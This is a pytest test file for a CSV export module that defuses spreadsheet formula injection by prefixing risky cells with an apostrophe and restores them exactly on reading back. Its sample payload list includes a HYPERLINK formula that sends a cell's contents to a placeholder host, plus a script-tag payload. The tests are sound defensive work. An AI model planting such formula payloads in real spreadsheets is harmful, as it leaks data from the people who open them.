"""The one CSV writer for tables people open: formulas dead on the way out, texts exact on the
way back in (textgauge.data.sheets)."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from textgauge.data import sheets
from textgauge.data.sheets import (
    FORMULA_STARTS,
    escape_cell,
    read_csv,
    read_sheet,
    to_csv_text,
    unescape_cell,
    write_csv,
    write_input_csv,
)

#: one text per formula start, an apostrophe-led text (it must keep its apostrophe), and the
#: payloads a hostile corpus carries
PAYLOADS = [
    '=HYPERLINK("http://x/?q="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'quoted",
    "''twice",
    "'=already escaped?",
    "plain text, with a comma",
    'say "hi"',
    "line one\nline two",
    "carriage\rreturn inside",
    "<script>alert(1)</script>",
    "",
]


def _cells(text: str) -> list[list[str]]:
    """The raw cells of a CSV text, as a spreadsheet program would split them."""
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_formula_start_is_escaped_and_comes_back_exact(tmp_path):
    df = pd.DataFrame({"id": [f"i{k}" for k in range(len(PAYLOADS))], "text": PAYLOADS})
    path = write_csv(df, tmp_path / "sheet.csv")
    raw = path.read_text(encoding="utf-8")
    for row in _cells(raw)[1:]:
        cell = row[1]
        assert not (cell and cell[0] in FORMULA_STARTS), f"live formula start in {cell!r}"
    back = read_csv(path, dtype=str, keep_default_na=False)
    assert back["text"].tolist() == PAYLOADS
    assert back["id"].tolist() == df["id"].tolist()


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_gets_one_apostrophe(start):
    value = f"{start}cmd"
    assert escape_cell(value) == f"'{start}cmd"
    assert unescape_cell(escape_cell(value)) == value


def test_an_apostrophe_led_text_gets_a_second_apostrophe_so_the_rule_reverses():
    assert escape_cell("'a") == "''a"
    assert unescape_cell("''a") == "'a"
    assert escape_cell("plain") == "plain"
    assert escape_cell(3) == 3 and escape_cell(None) is None


def test_numbers_and_negative_numbers_in_numeric_columns_stay_numbers(tmp_path):
    df = pd.DataFrame({"id": ["a", "b", "c"], "kappa": [-0.25, 0.5, np.nan],
                       "n": [-3, 0, 12], "flagged": [True, False, True]})
    raw = to_csv_text(df)
    rows = _cells(raw)
    assert rows[1][1] == "-0.25" and rows[1][2] == "-3"  # no apostrophe before a number
    path = write_csv(df, tmp_path / "numbers.csv")
    back = read_csv(path)
    assert back["kappa"].dtype == float and back["n"].dtype.kind == "i"
    assert back["kappa"].iloc[0] == -0.25 and np.isnan(back["kappa"].iloc[2])
    assert back["n"].tolist() == [-3, 0, 12]
    assert back["flagged"].tolist() == [True, False, True]


def test_a_number_written_as_text_is_escaped_and_still_reads_back_as_that_text(tmp_path):
    # a stratum "-2" is text: a spreadsheet would take it for a number and compute with it
    df = pd.DataFrame({"stratum": ["-2", "=1", "north"]})
    rows = _cells(to_csv_text(df))
    assert [r[0] for r in rows[1:]] == ["'-2", "'=1", "north"]
    back = read_csv(write_csv(df, tmp_path / "s.csv"), dtype=str)
    assert back["stratum"].tolist() == ["-2", "=1", "north"]


def test_headers_and_index_are_escaped_and_restored(tmp_path):
    # a coder named "=cmd" becomes a column of the adjudication sheet; labels an index
    cm = pd.DataFrame([[1, 2], [3, 4]], index=pd.Index(["=a", "+b"], name="-ref"),
                      columns=["=a", "+b"])
    raw = to_csv_text(cm, index=True)
    rows = _cells(raw)
    assert rows[0] == ["'-ref", "'=a", "'+b"]
    assert [r[0] for r in rows[1:]] == ["'=a", "'+b"]
    back = read_csv(write_csv(cm, tmp_path / "cm.csv", index=True), index_col=0)
    assert back.columns.tolist() == ["=a", "+b"]
    assert back.index.tolist() == ["=a", "+b"] and back.index.name == "-ref"
    assert back.to_numpy().tolist() == [[1, 2], [3, 4]]


def test_nan_and_empty_stay_empty(tmp_path):
    df = pd.DataFrame({"id": ["a", "b", "c"], "label": ["", None, np.nan],
                       "note": ["x", "", None]})
    rows = _cells(to_csv_text(df))
    assert rows[1:] == [["a", "", "x"], ["b", "", ""], ["c", "", ""]]
    path = write_csv(df, tmp_path / "e.csv")
    kept = read_csv(path, dtype=str, keep_default_na=False)
    assert kept["label"].tolist() == ["", "", ""] and kept["note"].tolist() == ["x", "", ""]
    default = read_csv(path)
    assert default["label"].isna().all()


def test_a_lone_carriage_return_is_quoted_so_rows_stay_rows(tmp_path):
    df = pd.DataFrame({"id": ["a", "b"], "text": ["one\rtwo", "\rled"]})
    raw = to_csv_text(df)
    assert len(_cells(raw)) == 3  # header + two rows, not four
    back = read_csv(write_csv(df, tmp_path / "cr.csv"), dtype=str)
    assert back["text"].tolist() == ["one\rtwo", "\rled"]
    # a table without a carriage return keeps plain \n lines
    assert "\r" not in to_csv_text(pd.DataFrame({"id": ["a"], "text": ["x\ny"]}))


def test_write_csv_is_atomic_and_leaves_no_temporary_file(tmp_path):
    out = tmp_path / "deep" / "dir" / "sheet.csv"
    write_csv(pd.DataFrame({"a": ["=1"]}), out)
    assert out.exists()
    assert [p.name for p in out.parent.iterdir()] == ["sheet.csv"]


def test_read_sheet_unescapes_csv_and_keeps_every_column_as_text(tmp_path):
    df = pd.DataFrame({"item": [1, 2], "id": ["007", "=x"], "text": ["-2+3", "'a"],
                       "label": ["", ""]})
    path = write_csv(df, tmp_path / "coder.csv")
    back = read_sheet(path, "coding sheet of a")
    assert back["id"].tolist() == ["007", "=x"]  # leading zeros kept: ids are text
    assert back["text"].tolist() == ["-2+3", "'a"]
    assert back["label"].tolist() == ["", ""]


def test_read_sheet_keeps_an_apostrophe_in_parquet(tmp_path):
    path = tmp_path / "coder.parquet"
    pd.DataFrame({"id": ["a"], "text": ["'kept"]}).to_parquet(path)
    assert read_sheet(path)["text"].tolist() == ["'kept"]


def test_read_sheet_names_a_missing_file(tmp_path):
    from textgauge.errors import InputDataError

    with pytest.raises(InputDataError, match=r"coding sheet of b .*does not exist"):
        read_sheet(tmp_path / "nope.csv", "coding sheet of b")


def test_the_input_writer_writes_cells_as_given(tmp_path):
    # input data (the synthetic example's corpus) plays the user's file: no apostrophes
    df = pd.DataFrame({"id": ["1"], "text": ["=not escaped"]})
    path = write_input_csv(df, tmp_path / "corpus.csv")
    assert _cells(path.read_text(encoding="utf-8"))[1] == ["1", "=not escaped"]


def test_every_exported_name_exists():
    for name in sheets.__all__:
        assert hasattr(sheets, name), name
